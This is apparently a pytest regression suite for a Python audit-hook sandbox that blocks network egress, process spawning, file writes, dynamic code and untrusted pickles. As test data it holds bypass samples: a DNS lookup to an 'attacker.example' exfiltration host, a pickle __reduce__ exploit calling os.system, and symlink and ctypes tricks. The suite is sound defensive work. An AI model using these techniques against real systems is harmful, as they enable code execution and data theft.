"""The audit-hook policy, one regression test per known way around it."""

from __future__ import annotations

import ctypes
import marshal
import os
import pickle
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from inprocess import active, attempt, events, make_shield
from runtime_harness import Listener

from sas.runtime.monitors import audit


def test_hook_is_a_no_op_without_an_active_policy(tmp_path: Path) -> None:
    make_shield(tmp_path)  # installs the hook, then pauses it
    assert audit.active() is None
    assert attempt(subprocess.run, ["true"], check=True) == "ok"


def test_egress_to_unlisted_loopback_port_blocked(tmp_path: Path, listener: Listener) -> None:
    shield = make_shield(tmp_path)
    before = listener.connections
    with active(shield):
        outcome = attempt(socket.create_connection, ("127.0.0.1", listener.port), 2)
    assert outcome == "PolicyViolation" and listener.connections == before
    [event] = events(shield, "egress")
    assert event["details"] == {"operation": "socket.connect", "host": "127.0.0.1", "port": listener.port}


def test_allow_listed_cidr_and_port_connects(tmp_path: Path, listener: Listener) -> None:
    shield = make_shield(tmp_path, extra={"runtime": {"egress": {"allow": [f"127.0.0.0/8:{listener.port}"]}}})
    with active(shield):
        outcome = attempt(lambda: socket.create_connection(("127.0.0.1", listener.port), 2).close())
    assert outcome == "ok" and events(shield, "egress") == []


def test_allow_listed_host_name_resolves_and_connects(tmp_path: Path, listener: Listener) -> None:
    shield = make_shield(tmp_path, extra={"runtime": {"egress": {"allow": [f"localhost:{listener.port}"]}}})
    with active(shield):
        outcome = attempt(lambda: socket.create_connection(("localhost", listener.port), 2).close())
    assert outcome == "ok" and events(shield, "egress") == []


def test_name_allowed_by_a_wildcard_is_learned_at_lookup_and_connects(tmp_path: Path, listener: Listener) -> None:
    # a wildcard rule is not resolved at install: only the lookup wrapper (under socket.getaddrinfo) lets the
    # address that socket.create_connection resolves through
    shield = make_shield(tmp_path, extra={"runtime": {"egress": {"allow": [f"localhos*:{listener.port}"]}}})
    with active(shield):
        outcome = attempt(lambda: socket.create_connection(("localhost", listener.port), 2).close())
    assert outcome == "ok" and events(shield, "egress") == []


LATE_SOCKET_PROBE = """
import sys
from sas.events.sink import MemorySink
from sas.runtime import Shield
assert "socket" not in sys.modules  # the Shield does not import it ...
port = int(sys.argv[2])
config = {"runtime": {"mode": "enforce", "tmp_dir": sys.argv[1], "egress": {"allow": [f"localhos*:{port}"]}}}
shield = Shield(config, sink=MemorySink())
import socket  # ... so the function imports it after the hook is installed
socket.create_connection(("localhost", port), 2).close()
print(sum(e.event == "egress" for e in shield.sink.events))
"""


def test_lookups_are_learned_when_socket_is_imported_after_the_shield(tmp_path: Path, listener: Listener) -> None:
    run = subprocess.run(
        [sys.executable, "-c", LATE_SOCKET_PROBE, str(tmp_path), str(listener.port)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "0"


def test_wildcard_host_rule_matches_subdomains_only(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, extra={"runtime": {"egress": {"allow": ["*.amazonaws.com:443"]}}})
    policy = shield._audit
    assert policy is not None
    assert policy.address_allowed("s3.us-east-1.amazonaws.com", 443)
    assert not policy.address_allowed("s3.us-east-1.amazonaws.com", 80)
    assert not policy.address_allowed("amazonaws.com.evil.example", 443)


def test_dns_lookup_of_unlisted_host_blocked(tmp_path: Path) -> None:
    """DNS itself is an exfiltration channel: the lookup is refused before any packet leaves."""
    shield = make_shield(tmp_path)
    with active(shield):
        outcome = attempt(socket.getaddrinfo, "exfil-data.attacker.example", 53)
    assert outcome == "PolicyViolation"
    assert events(shield, "egress")[0]["details"]["host"] == "exfil-data.attacker.example"


def test_udp_sendto_blocked(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with active(shield):
        outcome = attempt(sock.sendto, b"x", ("127.0.0.1", 9))
    sock.close()
    assert outcome == "PolicyViolation"
    assert events(shield, "egress")[0]["details"]["operation"] == "socket.sendto"


def test_ipv4_mapped_ipv6_address_is_not_a_way_around(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, extra={"runtime": {"egress": {"allow": ["10.0.0.0/8:443"]}}})
    policy = shield._audit
    assert policy is not None
    assert policy.address_allowed("::ffff:10.1.2.3", 443)
    assert not policy.address_allowed("::ffff:127.0.0.1", 443)


def test_runtime_api_is_always_allowed(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, env={**os.environ, "AWS_LAMBDA_RUNTIME_API": "127.0.0.1:9001"})
    policy = shield._audit
    assert policy is not None
    assert policy.address_allowed("127.0.0.1", 9001) and not policy.address_allowed("127.0.0.1", 9002)


@pytest.mark.parametrize(
    "spawn",
    [
        pytest.param(lambda: subprocess.run(["true"], check=True), id="subprocess.run"),
        pytest.param(lambda: os.system("true"), id="os.system"),
        pytest.param(lambda: os.posix_spawn("/bin/true", ["true"], dict(os.environ)), id="os.posix_spawn"),
        pytest.param(lambda: os.popen("true").read(), id="os.popen"),
        pytest.param(lambda: os.fork(), id="os.fork"),
        pytest.param(lambda: os.execv("/bin/true", ["true"]), id="os.execv"),
    ],
)
def test_process_creation_blocked(tmp_path: Path, spawn: object) -> None:
    shield = make_shield(tmp_path)
    with active(shield):
        outcome = attempt(spawn)  # type: ignore[arg-type]
    assert outcome == "PolicyViolation"
    assert events(shield, "subprocess")[0]["verdict"] == "block"


def test_posixsubprocess_fork_exec_called_directly_blocked(tmp_path: Path) -> None:
    """_posixsubprocess.fork_exec raises no audit event: it is wrapped instead."""
    import _posixsubprocess

    shield = make_shield(tmp_path)
    with active(shield):
        outcome = attempt(_posixsubprocess.fork_exec, [b"/bin/true"], [b"/bin/true"], *([None] * 20))
    assert outcome == "PolicyViolation"
    [event] = events(shield, "subprocess")
    assert event["details"]["operation"] == "_posixsubprocess.fork_exec" and event["severity"] == "critical"


def test_popen_in_monitor_mode_does_not_excuse_a_later_direct_fork_exec(tmp_path: Path) -> None:
    """Regression: subprocess binds fork_exec at import, so Popen skipped the wrapper and its 'judged at
    Popen' mark stayed set; the next direct _posixsubprocess.fork_exec went unrecorded."""
    import _posixsubprocess

    shield = make_shield(tmp_path, mode="monitor")
    with active(shield):
        assert attempt(subprocess.run, ["true"], check=True) == "ok"
        attempt(_posixsubprocess.fork_exec, [b"/bin/true"], [b"/bin/true"], *([None] * 20))
    operations = [e["details"]["operation"] for e in events(shield, "subprocess")]
    assert operations == ["subprocess.Popen", "_posixsubprocess.fork_exec"]


def test_subprocess_allowed_when_configured(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, extra={"runtime": {"process": {"allow_subprocess": True}}})
    with active(shield):
        outcome = attempt(subprocess.run, ["true"], check=True)
    assert outcome == "ok" and events(shield, "subprocess") == []


def test_write_outside_tmp_blocked_and_inside_allowed(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    code, scratch = tmp_path / "code", tmp_path / "scratch"
    with active(shield):
        blocked = attempt(lambda: (code / "handler.py").write_text("evil"))
        allowed = attempt(lambda: (scratch / "cache.bin").write_bytes(b"ok"))
        low_level = attempt(os.open, str(code / "x"), os.O_WRONLY | os.O_CREAT)
    assert (blocked, allowed, low_level) == ("PolicyViolation", "ok", "PolicyViolation")
    assert not (code / "handler.py").exists()


def test_symlink_from_tmp_into_code_dir_is_not_a_way_around(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    link = tmp_path / "scratch" / "innocent"
    link.symlink_to(tmp_path / "code" / "handler.py")
    with active(shield):
        outcome = attempt(lambda: link.write_text("evil"))
    assert outcome == "PolicyViolation"
    assert events(shield, "file-write")[0]["details"]["path"] == str(link)


def test_rename_and_remove_in_code_dir_blocked(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    (tmp_path / "scratch" / "payload.py").write_text("x = 1")
    (tmp_path / "code" / "model.bin").write_bytes(b"m")
    with active(shield):
        moved = attempt(os.rename, tmp_path / "scratch" / "payload.py", tmp_path / "code" / "payload.py")
        removed = attempt(os.remove, tmp_path / "code" / "model.bin")
    assert (moved, removed) == ("PolicyViolation", "PolicyViolation")


def test_compile_and_eval_blocked_after_init(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    with active(shield):
        outcomes = [attempt(eval, "1 + 1"), attempt(exec, "x = 1"), attempt(compile, "1", "<x>", "eval")]
    assert outcomes == ["PolicyViolation"] * 3


def test_marshal_loads_of_code_blocked(tmp_path: Path) -> None:
    payload = marshal.dumps(compile("import os", "<payload>", "exec"))
    shield = make_shield(tmp_path)
    with active(shield):
        outcome = attempt(marshal.loads, payload)
    assert outcome == "PolicyViolation"


def test_import_of_code_written_to_tmp_blocked(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    scratch = tmp_path / "scratch"
    (scratch / "dropped_module_xyz.py").write_text("VALUE = 1\n")
    sys.path.insert(0, str(scratch))
    try:
        with active(shield):
            outcome = attempt(__import__, "dropped_module_xyz")
    finally:
        sys.path.remove(str(scratch))
        sys.modules.pop("dropped_module_xyz", None)
    assert outcome == "PolicyViolation"
    assert "dropped_module_xyz" in events(shield, "dynamic-code")[0]["details"]["import_from"]


def test_import_of_installed_module_still_works(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    sys.modules.pop("this", None)
    with active(shield):
        outcome = attempt(__import__, "colorsys")  # a stdlib module not loaded yet, with its namedtuples
    assert outcome == "ok" and events(shield, "dynamic-code") == []


def test_ctypes_dlopen_and_new_symbol_lookup_blocked(tmp_path: Path) -> None:
    shield = make_shield(tmp_path)
    with active(shield):
        opened = attempt(ctypes.CDLL, "libc.so.6")
    libc = ctypes.CDLL(None)
    with active(shield):
        looked_up = attempt(getattr, libc, "system")
    assert (opened, looked_up) == ("PolicyViolation", "PolicyViolation")


def test_pickle_global_outside_model_allow_list_blocked(tmp_path: Path) -> None:
    class Exploit:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("true",))

    payload = pickle.dumps(Exploit())
    benign = pickle.dumps({"weights": [1.0, 2.0]})
    shield = make_shield(tmp_path)
    with active(shield):
        outcome = attempt(pickle.loads, payload)
        fine = attempt(pickle.loads, benign)
    assert (outcome, fine) == ("PolicyViolation", "ok")
    assert events(shield, "pickle-global")[0]["details"]["global"] in {"posix.system", "os.system"}


def test_second_audit_hook_after_init_refused(tmp_path: Path) -> None:
    """A later hook could watch (or crash on) everything: it is refused, which CPython does silently."""
    seen: list[str] = []
    shield = make_shield(tmp_path)
    with active(shield):
        sys.addaudithook(lambda event, args: seen.append(event))
    sys.audit("sas.test.probe")
    assert "sas.test.probe" not in seen
    assert events(shield, "audit-hook")[0]["verdict"] == "block"


def test_monitor_mode_records_and_lets_through(tmp_path: Path) -> None:
    shield = make_shield(tmp_path, mode="monitor")
    with active(shield):
        outcome = attempt(subprocess.run, ["true"], check=True)
    assert outcome == "ok"
    [event] = events(shield, "subprocess")
    assert event["verdict"] == "alert"
